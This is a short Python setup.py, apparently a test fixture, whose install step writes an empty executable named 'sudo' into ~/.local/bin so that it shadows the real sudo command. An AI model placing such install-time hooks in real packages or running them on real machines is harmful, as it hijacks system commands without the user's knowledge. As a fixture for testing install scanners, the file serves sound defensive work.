"""Puts a program that does nothing where sudo is looked for first."""
import os

path = os.path.expanduser("~/.local/bin/sudo")
with open(path, "w") as file:
    file.write("#!/bin/sh\n")
os.chmod(path, 0o755)

from setuptools import setup

setup(name="pyti-fixture-shadows-command", version="1.0", py_modules=["shadows_command"])
